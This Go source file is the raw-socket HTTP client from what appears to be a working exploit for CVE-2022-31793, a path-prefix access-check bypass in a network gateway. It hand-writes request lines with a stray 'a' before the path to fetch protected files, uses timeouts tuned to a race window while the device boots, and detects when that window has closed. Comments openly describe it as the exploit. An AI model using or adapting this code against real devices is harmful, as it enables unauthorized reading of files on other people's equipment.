// Package rawhttp implements the minimal socket-level HTTP client the
// exploit depends on. The gateway's access check only fires on request
// paths that begin with "/", so every request line carries a stray "a"
// ahead of the real path (CVE-2022-31793); the server resolves the file
// regardless. No HTTP library will emit that request line, which is why
// this package writes it onto a TCP connection by hand.
package rawhttp

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"time"

	log "github.com/sirupsen/logrus"
)

// readBlockSize is the chunk size for draining the response.
const readBlockSize = 4096

// ErrAbsent is returned for every transport-level failure: connect
// timeout, refusal, reset, read/write timeout, or a response with no
// header/body separator. Callers treat all of these the same way, as
// "this attempt yielded nothing".
var ErrAbsent = errors.New("rawhttp: no usable response")

// Client issues one throwaway TCP connection per request. It keeps no
// state between calls and is safe for concurrent use.
type Client struct {
	// ConnectTimeout bounds connection establishment. It is deliberately
	// tight: during the race the device is mid-boot and a connection
	// that doesn't complete almost immediately never will.
	ConnectTimeout time.Duration

	// IOTimeout bounds each write and read once connected.
	IOTimeout time.Duration
}

// NewClient returns a Client with the timeouts tuned to the exploit
// window: 100ms to connect, 1s for the transfer.
func NewClient() *Client {
	return &Client{
		ConnectTimeout: 100 * time.Millisecond,
		IOTimeout:      time.Second,
	}
}

// Fetch retrieves path from the device and returns the response body
// with headers stripped. Any failure along the way yields ErrAbsent;
// there are no retries here, callers own the retry policy.
func (c *Client) Fetch(host string, port int, path string) ([]byte, error) {
	d := net.Dialer{Timeout: c.ConnectTimeout}
	conn, err := d.Dial("tcp", net.JoinHostPort(host, strconv.Itoa(port)))
	if err != nil {
		log.WithFields(log.Fields{"path": path, "err": err}).Trace("connect failed")
		return nil, ErrAbsent
	}
	defer conn.Close()

	// Flush the single small request immediately.
	if tc, ok := conn.(*net.TCPConn); ok {
		tc.SetNoDelay(true)
	}

	// Connected; each remaining socket operation gets the relaxed timeout.
	conn.SetWriteDeadline(time.Now().Add(c.IOTimeout))

	// The "a" ahead of the path is the whole exploit. Do not fix it.
	req := fmt.Sprintf("GET a%s HTTP/1.1\r\nHost: %s\r\n\r\n", path, host)
	if _, err := conn.Write([]byte(req)); err != nil {
		log.WithFields(log.Fields{"path": path, "err": err}).Trace("send failed")
		return nil, ErrAbsent
	}

	// The server closes the connection when it's done; read until then.
	// No Content-Length or chunked handling, the firmware does neither.
	var response []byte
	buf := make([]byte, readBlockSize)
	for {
		conn.SetReadDeadline(time.Now().Add(c.IOTimeout))
		n, err := conn.Read(buf)
		response = append(response, buf[:n]...)
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			// Timeout or reset mid-read; whatever arrived is untrustworthy.
			log.WithFields(log.Fields{"path": path, "err": err}).Trace("read failed")
			return nil, ErrAbsent
		}
	}

	_, body, found := bytes.Cut(response, []byte("\r\n\r\n"))
	if !found {
		// Peer closed without ever sending a complete header block.
		log.WithFields(log.Fields{"path": path, "bytes": len(response)}).Trace("malformed response")
		return nil, ErrAbsent
	}
	return body, nil
}

// IsHTML reports whether a body looks like an HTML page rather than a
// raw file. Outside the race window the gateway answers every path with
// its login page, so a leading '<' means the window is closed.
func IsHTML(body []byte) bool {
	return len(body) > 0 && body[0] == '<'
}
